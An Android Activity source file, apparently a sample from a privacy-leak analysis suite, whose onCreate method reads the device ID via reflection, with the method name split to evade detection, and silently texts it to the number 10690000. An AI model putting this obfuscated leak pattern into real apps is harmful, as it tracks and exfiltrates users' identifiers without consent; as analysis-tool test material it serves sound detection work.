package cn.privlens.suite.framework_source;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.util.Log;
import java.lang.reflect.Method;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Object tm = getSystemService("phone");
            Method m = tm.getClass().getMethod("get" + "DeviceId");
            Object id = m.invoke(tm);
            SmsManager.getDefault().sendTextMessage("10690000", null, "" + id, null, null);
        } catch (Exception e) {
            Log.w("suite", "reflect");
        }
    }
}
